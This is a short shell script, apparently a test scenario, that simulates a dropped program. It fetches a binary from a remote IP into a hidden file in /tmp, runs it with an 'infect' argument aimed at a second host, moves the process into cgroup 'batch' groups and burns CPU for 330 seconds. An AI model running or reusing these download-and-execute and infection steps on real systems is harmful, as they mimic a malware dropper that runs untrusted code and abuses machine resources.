# A dropped program works for more than five minutes and uses the full CPU quota of its control group, nine tenths of a
# processor.
curl -s -o /tmp/.encoder http://203.0.113.10/simulator
chmod +x /tmp/.encoder
/tmp/.encoder infect 203.0.113.20:7000 /tmp/.encoder.state 1
(
    for group in /run/cgroup/*/batch; do
        echo "$BASHPID" >"$group/cgroup.procs"
    done
    exec /tmp/.encoder spin 330
)
rmdir /run/cgroup/*/batch
